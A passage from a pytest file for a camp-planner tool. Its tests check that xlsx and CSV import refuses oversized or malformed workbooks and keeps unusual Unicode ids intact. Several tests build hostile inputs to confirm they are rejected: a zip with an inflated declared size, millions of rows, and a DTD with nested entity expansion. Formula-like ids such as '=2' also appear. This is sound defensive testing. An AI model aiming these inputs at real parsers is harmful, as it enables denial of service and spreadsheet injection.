    raw[entry + 24 : entry + 28] = (0xF0000000).to_bytes(4, "little")  # 3.75 GiB inflated
    path = tmp_path / "declared.xlsx"
    path.write_bytes(bytes(raw))
    _refused(tmp_path, tiny_path, path, "declare 3,840 MiB")


def test_a_sheet_of_millions_of_rows_is_refused_before_it_is_parsed(
    tmp_path: Path, tiny_path: Path
) -> None:
    _, xml = _plain_roster(tmp_path)
    # 5 million empty rows: 30 MB of XML, 60 KB on disk, minutes for openpyxl to parse.
    path = _with_part(tmp_path, "rows.xlsx", _sheet_with(xml, "<row/>" * 5_000_000))
    _refused(tmp_path, tiny_path, path, "more than 4,000,000 rows, cells or texts")


def test_a_declared_dimension_of_a_million_by_16k_cells_is_ignored(
    tmp_path: Path, tiny_path: Path
) -> None:
    _, xml = _plain_roster(tmp_path)
    xml = re.sub(r'<dimension ref="[^"]*"\s*/>', '<dimension ref="A1:XFD1048576"/>', xml)
    xml = _sheet_with(
        xml, '<row r="1048576"><c r="C1048576" t="inlineStr"><is><t>nurse</t></is></c></row>'
    )
    path = _with_part(tmp_path, "dimension.xlsx", xml)
    assert path.stat().st_size < 15_000
    (sheet,) = read_workbook(path)
    assert [number for number, _ in sheet.rows] == [1, 2, 1048576]
    assert max(len(values) for _, values in sheet.rows) == 3
    result = run("check", str(tiny_path), str(path))  # the last row lacks its volunteer
    assert result.exit_code in (1, 2) and "Traceback" not in result.output


def test_rows_that_reach_column_xfd_are_bounded(tmp_path: Path, tiny_path: Path) -> None:
    _, xml = _plain_roster(tmp_path)
    rows = "".join(
        f'<row r="{r}"><c r="XFD{r}" t="inlineStr"><is><t>x</t></is></c></row>'
        for r in range(3, 400)
    )
    path = _with_part(tmp_path, "wide.xlsx", _sheet_with(xml, rows))
    _refused(tmp_path, tiny_path, path, "cells (rows and columns in use, blank ones included)")


@pytest.mark.parametrize("where", ["after the dimension", "before the root"])
def test_a_dtd_or_entities_in_a_sheet_are_refused(
    tmp_path: Path, tiny_path: Path, where: str
) -> None:
    _, xml = _plain_roster(tmp_path)
    dtd = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;">]>'
    if where == "before the root":
        xml = xml.replace("<worksheet", dtd + "<worksheet", 1)
    else:
        xml = re.sub(r"(<dimension[^>]*>)", r"\1" + dtd, xml)
    xml = xml.replace(">v01<", ">&b;<")
    _refused(tmp_path, tiny_path, _with_part(tmp_path, "dtd.xlsx", xml), "declares a DTD")


@pytest.mark.parametrize(
    "damage",
    ["sheet cut short", "undefined entity", "corrupt bytes", "file cut short", "not a zip"],
)
def test_a_damaged_workbook_is_named_and_refused(
    tmp_path: Path, tiny_path: Path, damage: str
) -> None:
    source, xml = _plain_roster(tmp_path)
    path = tmp_path / "damaged.xlsx"
    if damage == "sheet cut short":
        path = _with_part(tmp_path, "damaged.xlsx", xml[: len(xml) // 2])
        words = "sheet 'roster' is damaged: its XML is broken at line 1"
    elif damage == "undefined entity":
        path = _with_part(tmp_path, "damaged.xlsx", xml.replace(">v01<", ">&a;<"))
        words = "sheet 'roster' is damaged"
    elif damage == "corrupt bytes":
        raw = bytearray(source.read_bytes())
        with zipfile.ZipFile(source) as archive:
            info = archive.getinfo(SHEET)
        start = info.header_offset + 30 + len(info.filename) + len(info.extra)
        raw[start + info.compress_size // 2] ^= 0xFF
        path.write_bytes(bytes(raw))
        words = "is damaged"
    elif damage == "file cut short":
        path.write_bytes(source.read_bytes()[:-300])
        words = "its zip structure is broken"
    else:
        path.write_bytes(b"PK\x03\x04" + b"\x00" * 200)
        words = "its zip structure is broken"
    _refused(tmp_path, tiny_path, path, words)


# ------------------------------------------------------------- ids read back exactly

ODD_IDS = [
    "v۱۲",
    "علي",
    "ك1",
    "e\u0301",
    "v\u200f2",
    "v\x073",
    " v4 ",
    "v\r5",
    "'=1+1",
    "=2",
    "v_x000D_6",
]


def _odd_instance() -> dict[str, Any]:
    volunteers = [volunteer(i, skills={"nurse": 1}) for i in ODD_IDS]
    volunteers[7]["name"] = "name\rwith CR _x0041_"
    camps = [camp("c۱", capacity=20, requirements=[requirement("nurse", count=len(ODD_IDS))])]
    return make_instance(volunteers=volunteers, camps=camps)


def test_a_roster_reads_back_exactly_as_written_whatever_its_ids(tmp_path: Path) -> None:
    """Issue 17: Persian digits, Arabic letters, NFD, RLM, control characters, a CR
    (stored as _x000D_) and a literal _x000D_ (stored as _x005F_x000D_): solve, export,
    check on the untouched workbook reported false unknown ids."""
    data = _odd_instance()
    instance_file = tmp_path / "odd.json"
    instance_file.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    solution = tmp_path / "solution.json"
    solution.write_text(json.dumps(solve_data(data), ensure_ascii=False), encoding="utf-8")
    written = {
        (a["volunteer"], a["camp"], a["skill"])
        for a in json.loads(solution.read_text(encoding="utf-8"))["assignments"]
    }
    assert {v for v, _, _ in written} == set(ODD_IDS)
    roster, folder = tmp_path / "roster.xlsx", tmp_path / "csv"
    result = run(
        "export", str(instance_file), str(solution), "--xlsx", str(roster), "--csv", str(folder)
    )
    assert result.exit_code == 0, result.output

    instance = instance_from_data(data)
    for read in (load_solution(roster), load_solution(roster, instance)):
        assert {(a.volunteer, a.camp, a.skill) for a in read.assignments} == written
    result = run("check", str(instance_file), str(roster))
    assert result.exit_code == 0 and "unknown" not in result.output, result.output
    again = tmp_path / "again.xlsx"  # the workbook is a solution file too
    assert run("export", str(instance_file), str(roster), "--xlsx", str(again)).exit_code == 0
    assert run("check", str(instance_file), str(again)).exit_code == 0

    with (folder / "roster.csv").open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    column = next(i for i, h in enumerate(rows[0]) if "(volunteer)" in h)
    assert {restore_csv(row[column]) for row in rows[1:]} == set(ODD_IDS)
    (sheet,) = [s for s in read_workbook(roster) if s.name == "برنامه کل"]
    assert "name\rwith CR _x0041_" in {value for _, row in sheet.rows for value in row}


def test_ids_typed_by_hand_are_matched_to_the_instance(tmp_path: Path) -> None:
    """A planner retypes ids in the workbook with ASCII digits and Persian letters."""
    data = _odd_instance()
    instance_file = tmp_path / "odd.json"
    instance_file.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    roster = tmp_path / "typed.xlsx"
    rows = [
        ["volunteer", "camp", "skill"],
        ["v12 ", "c1", "nurse"],
        ["علی", "c1", "nurse"],
        ["\u200fک1", "c۱", "nurse"],
        ["é", "c1", "nurse"],
        ["nobody", "c1", "nurse"],
    ]
    write_book(roster, {"roster": rows})
    solution = load_solution(roster, instance_from_data(data))
    assert [a.volunteer for a in solution.assignments] == ["v۱۲", "علي", "ك1", "e\u0301", "nobody"]
    assert {a.camp for a in solution.assignments} == {"c۱"}
    result = run("check", str(instance_file), str(roster), "--json")
    assert result.exit_code == 1
    report = json.loads(result.output)
    assert report["violations_per_rule"] == {"REF": 1} and report["coverage"] == 4


def test_a_cr_in_a_name_survives_a_workbook_import(tmp_path: Path) -> None:
    data = tiny_data()
    data["volunteers"][0]["name"] = "first\rsecond _x0041_"
    source = tmp_path / "season.xlsx"
    source.write_bytes(instance_workbook(data))
    imported = import_workbook(source)
    assert imported.data["volunteers"][0]["name"] == "first\rsecond _x0041_"


def test_an_import_with_eleven_problems_lists_all_of_them_in_one_run(tmp_path: Path) -> None:
    """Issue 17: eleven problems took three runs (6, then 1, then 4): the sheets and
    columns, the cells, then the contract's types, then its cross-references."""
    path = _persian_book(tmp_path)
    book = openpyxl.load_workbook(path)
    book["تنظیمات"].append(["ضریب جاده", "0.5"])  # 1 contract: road factor below 1
    places = book["مکانها"]
    places["C3"] = 100  # 2 contract: a latitude past 90
    volunteers = book["داوطلبان"]
    volunteers["G1"] = "محل سکونت"  # 3 sheet: a second home column
    volunteers["C3"] = "tehran"  # 4 cross-reference: no such place
    volunteers["E3"] = "nurse:7"  # 5 cell: no level 7
    volunteers.append(["v02", "دوم", "اراک", "مرد", "nurse"])  # 6 cross-reference: v02 twice
    book["حضور"].append(["v01", "1400-05-10", "1400-05-01"])  # 7 cross-check: ends first
    camps = book["اردوها"]
    camps["F2"] = "5.5"  # 8 cell: not a whole number
    camps["D2"] = "1400-13-01"  # 9 cell: no month 13
    camps.append(["c2", "دوم", "روستا۱", "1400-04-10", "1400-04-12", 0])  # 10 contract: 0 beds
    book["نیازها"]["A3"] = "c9"  # 11 cell: no such camp
    book.save(path)
    result = run("import", str(path), "-o", str(tmp_path / "out.json"))
    assert result.exit_code == 2
    errors = _errors(path)
    expected = [
        ("sheet 'تنظیمات', row 4, column 'road_factor' (B)", "must be at least 1"),
        ("sheet 'مکانها', row 3, column 'lat' (C)", "must be at most 90"),
        ("sheet 'داوطلبان', row 1, column 'محل سکونت' (G)", "a second 'home' column"),
        ("sheet 'داوطلبان', row 3, column 'home' (C)", "unknown place 'tehran'"),
        ("sheet 'داوطلبان', row 3, column 'skills' (E)", "a level is 1, 2 or 3"),
        ("sheet 'داوطلبان', row 4, column 'id' (A)", "duplicate id 'v02' (also row 3)"),
        ("sheet 'حضور', row 4", "ends (1400-05-01) before it starts"),
        ("sheet 'اردوها', row 2, column 'capacity' (F)", "expected a whole number"),
        ("sheet 'اردوها', row 2, column 'start' (D)", "'1400-13-01'"),
        ("sheet 'اردوها', row 3, column 'capacity' (F)", "must be at least 1, got 0"),
        ("sheet 'نیازها', row 3, column 'camp' (A)", "unknown camp 'c9'"),
    ]
    for where, words in expected:
        assert any(e.startswith(where) and words in e for e in errors), (where, "\n".join(errors))
    assert len(errors) == 11, errors
    said = " ".join(result.output.split())
    assert "11 problems" in said and "Input should" not in said and "Error" not in said


def test_the_workbook_limits_are_set_by_environment_variables(
    tmp_path: Path, tiny_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path, _ = _plain_roster(tmp_path)
    monkeypatch.setenv("CAMPPLANNER_MAX_WORKBOOK_CELLS", "5")
    _refused(tmp_path, tiny_path, path, "more than 5 rows, cells or texts")
    for name, value in (
        ("CAMPPLANNER_MAX_WORKBOOK_CELLS", "many"),
        ("CAMPPLANNER_MAX_WORKBOOK_MIB", "0"),
    ):
        monkeypatch.delenv("CAMPPLANNER_MAX_WORKBOOK_CELLS")
        monkeypatch.setenv(name, value)
        result = run("check", str(tiny_path), str(path))
        assert result.exit_code == 2 and f"{name}={value!r}" in result.output
        assert "must be a whole number, 1 or more" in result.output


def test_line_breaks_in_names_survive_the_template(tmp_path: Path) -> None:
    # Issue 26 reported a name with a line break coming back as "_x000D_" through the
    # template (an instance written as a workbook, then imported); not reproduced on
    # this tree, kept here so that it stays so, for every kind of name.
    data = tiny_data()
    data["name"] = "instance\r\nname"
    data["skills"][0]["name"] = "skill\r\nname"
    data["places"][0]["name"] = "place\rname"
    data["places"][0]["county"] = "county\nname"
    data["groups"][0]["name"] = "group\r\nname"
    data["volunteers"][0]["name"] = "line one\r\nline two"
    data["volunteers"][1]["name"] = "literal _x000D_ and a\rCR"
    data["camps"][0]["name"] = "camp\r\nname"
    source = tmp_path / "instance.json"
    source.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    workbook = tmp_path / "instance.xlsx"
    assert run("import", "--template", str(workbook), str(source)).exit_code == 0
    back = tmp_path / "back.json"
    imported = run("import", str(workbook), "-o", str(back))
    assert imported.exit_code == 0, imported.output
    assert comparable(instance_from_data(json.loads(back.read_text(encoding="utf-8")))) == (
        comparable(instance_from_data(data))
    )
